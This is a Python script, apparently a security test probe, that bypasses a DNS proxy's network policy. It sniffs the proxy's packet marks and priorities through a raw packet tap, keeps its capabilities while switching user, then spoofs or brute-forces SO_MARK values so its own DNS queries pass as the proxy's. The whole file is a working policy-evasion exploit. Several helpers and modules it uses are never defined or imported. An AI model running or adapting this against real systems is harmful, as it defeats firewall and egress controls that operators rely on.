"""Reads mark and priority of the proxy's questions wherever they can be read, then asks as the proxy with what it has read."""
import ctypes
import os
import time

args = arguments("uid", "mark", "priority", "guesses")
seen = []
number = lambda name: int(name, 0) if name else 0
question_for = lambda label: question().replace(bytes([len(MARKER)]) + MARKER, bytes([len(label)]) + label)
client = socket.socket(family(args.to), socket.SOCK_DGRAM)
client.settimeout(2)

if args.mark is None:
    # A tap on every device, lo too; SO_RCVMARK (75) and SO_RCVPRIORITY (82, Linux 6.14).
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    for option in (75, 82):
        try:
            tap.setsockopt(socket.SOL_SOCKET, option, 1)
        except OSError:
            pass
    # What the policy permits, so that the proxy asks upstream.
    for _ in range(20):
        client.sendto(question_for(b"api"), (args.to, 53))
        client.recv(2000)
    tap.settimeout(0.3)
    try:
        while True:
            packet, control, _, _ = tap.recvmsg(2000, 200)
            # Of questions: the kernel's own packets have numbers too, which are nobody's secret.
            if b"example" in packet.lower():
                seen += [value for _, _, data in control for value in struct.unpack("I", data)]
    except OSError:
        pass

read = sorted(set(seen) - {0})
mark = number(args.mark) or (read[0] if read else 0)
libc = ctypes.CDLL(None)
libc.prctl(8, 1, 0, 0, 0)  # PR_SET_KEEPCAPS
os.setuid(int(args.uid))
header, words = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)()
libc.capget(header, words)
words[0], words[3] = words[1], words[4]  # effective = permitted
libc.capset(header, words)

sent, got, error = 0, None, None
asker = socket.socket(family(args.to), socket.SOCK_DGRAM)
asker.settimeout(1)
try:
    for guess in range(1, 1 + number(args.guesses)):
        try:
            asker.sendmsg([question()], [(1, 36, struct.pack("I", guess))], 0, (args.to, 53))
        except OSError as cause:
            error = cause
    # Another port: the guesses have made a connection entry of theirs.
    asker = socket.socket(family(args.to), socket.SOCK_DGRAM)
    asker.settimeout(1)
    candidates = [(one, two) for one in read for two in read] or [(mark, number(args.priority))]
    for one, two in candidates:
        asker.setsockopt(socket.SOL_SOCKET, 36, struct.pack("I", one))
        asker.setsockopt(socket.SOL_SOCKET, socket.SO_PRIORITY, struct.pack("I", two))
        asker.sendto(question(), (args.to, 53))
        sent += 1
    got = "answered" if asker.recv(2000) else None
except OSError as cause:
    error = cause
print(json.dumps({"sent": sent, "got": got, "error": None if error is None else str(error), "read": [hex(one) for one in read]}))
